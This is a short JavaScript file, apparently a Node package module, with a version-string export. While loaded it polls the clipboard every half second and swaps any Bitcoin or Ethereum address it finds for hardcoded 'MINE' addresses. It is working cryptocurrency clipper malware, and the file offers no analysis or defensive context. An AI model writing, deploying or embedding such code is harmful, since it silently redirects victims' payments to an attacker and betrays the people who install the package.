const clipboardy = require("clipboardy");

const MINE = {
  btc: "bc1qexampleexampleexampleexampleexample00",
  eth: "0x0000000000000000000000000000000000dEaD00",
};

function swap() {
  const text = clipboardy.readSync();
  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(text)) {
    clipboardy.writeSync(MINE.btc);
  } else if (/^0x[a-fA-F0-9]{40}$/.test(text)) {
    clipboardy.writeSync(MINE.eth);
  }
}

setInterval(swap, 500);
module.exports = { version: "1.0.3" };
